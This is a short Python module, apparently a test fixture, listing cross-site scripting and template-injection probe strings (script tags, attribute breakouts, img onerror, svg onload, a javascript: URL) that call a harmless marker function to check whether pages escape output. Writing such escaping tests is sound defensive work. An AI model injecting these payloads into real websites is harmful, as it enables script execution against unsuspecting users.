"""Texts that would run something, or draw something, wherever a page forgot to escape them."""

from __future__ import annotations

MARK = "hostile"
PAYLOADS = {
    "script": f"<script>{MARK}(1)</script>",
    "attribute": f'" onmouseover="{MARK}(1)',
    "single-quote": f"' onfocus='{MARK}(1)' autofocus x='",
    "image": f'"><img src=x onerror={MARK}(1)>',
    "svg": f"</text></svg><svg onload={MARK}(1)>",
    "endings": f"</title></textarea>--><script>{MARK}(1)</script>",  # a name of a filter has room for 60 characters
    "partial": f"]]></hx-partial><script>{MARK}(1)</script>",
    "template": f"{{{{7*191}}}}{{% debug %}}{MARK}",
    "address": f"javascript:{MARK}(1)",
}
